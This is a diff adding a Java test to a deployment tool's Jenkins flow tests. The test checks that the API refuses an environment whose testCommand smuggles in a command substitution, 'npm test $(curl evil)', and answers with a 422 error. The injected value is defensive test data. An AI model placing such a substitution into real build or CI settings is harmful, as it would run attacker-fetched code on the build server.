@@ -189,6 +189,19 @@ class JenkinsDeploymentFlowTests extends DeployerTest {
     }
 
     @Test
+    void jenkinsIsAvailableAndEnvironmentSettingsThatCouldBecomeCodeAreRefused() {
+        Setup setup = setup();
+
+        assertThat(get("/api/v1/providers/jenkins", setup.admin()).getBody()).containsEntry("available", true);
+        ResponseEntity<Map<String, Object>> refused = post("/api/v1/projects/" + setup.projectId() + "/environments",
+                Map.of("name", "evil", "target", "jenkins", "settings", Map.of("providerId", UUID.randomUUID(),
+                        "testCommand", "npm test $(curl evil)")), setup.admin());
+        assertThat(refused.getStatusCode().value()).isEqualTo(422);
+        assertThat(refused.getBody()).containsEntry("type", "https://autodeploy.dev/problems/invalid-target-settings");
+        assertThat((String) refused.getBody().get("detail")).startsWith("testCommand cannot be run");
+    }
+
+    @Test
     void aFailedBuildFailsTheDeploymentSayingSo() {
         Setup setup = setup();
         queues(setup, 902);
